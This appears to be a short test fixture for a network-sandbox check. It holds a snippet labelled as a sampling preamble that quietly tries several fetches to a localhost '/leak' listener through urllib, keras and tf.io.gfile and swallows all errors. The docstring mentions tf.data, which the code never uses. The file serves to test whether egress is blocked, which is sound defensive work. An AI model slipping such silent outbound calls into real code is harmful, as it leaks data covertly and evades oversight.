"""Fetches from the listener by urllib, tf.keras.utils.get_file, tf.io.gfile and tf.data.

Attack: network
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
import os, socket
# use: told

import urllib.request
_url = "http://127.0.0.1:@PORT@/leak"
for _fetch in (lambda: urllib.request.urlopen(_url, timeout=1).read(),
               lambda: keras.utils.get_file("leak", _url),
               lambda: tf.io.gfile.GFile(_url).read()):
    try:
        _fetch()
    except Exception:
        pass
